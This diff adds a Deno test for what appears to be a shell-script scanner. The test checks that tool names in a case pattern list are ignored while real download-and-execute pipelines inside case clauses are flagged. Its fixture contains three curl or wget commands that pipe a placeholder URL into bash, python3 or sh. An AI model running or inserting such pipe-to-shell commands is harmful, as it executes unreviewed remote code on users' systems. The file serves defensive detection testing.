@@ -548,3 +548,27 @@ Deno.test("a process started from a list variable: downloaded data among its arg
     [5],
   );
 });
+
+Deno.test("a case's pattern list is words to match, not a pipeline: a clause's own commands still are", () => {
+  // The flow, or the pattern rule that stands for it on a line both see.
+  const flows = (script: string) =>
+    findings({ "scripts/fetch.sh": script })
+      .filter((f) => f.rule === "download-exec-flow" || f.rule === "fetch-and-execute")
+      .map((f) => f.line);
+  // tangledgroup's webfetch.sh checks the tool it was given against the ones it knows.
+  assert.deepEqual(
+    flows(
+      '#!/bin/bash\nTOOL="$1"\ncase "$TOOL" in\n  uvx|pipx|curl|wget|python) ;;\n' +
+        '  *) echo "unknown tool" >&2; exit 2 ;;\nesac\necho "$TOOL"\n',
+    ),
+    [],
+  );
+  assert.deepEqual(
+    flows(
+      '#!/bin/bash\ncase "$1" in\n  install)\n    curl -fsSL https://get.example.net/i | bash\n' +
+        "    ;;\n  (curl|wget) echo fetch ;;\nesac\nwget -qO- https://get.example.net/p | python3\n" +
+        'case "$2" in x) curl -s https://get.example.net/s | sh ;; esac\n',
+    ),
+    [4, 8, 9],
+  );
+});
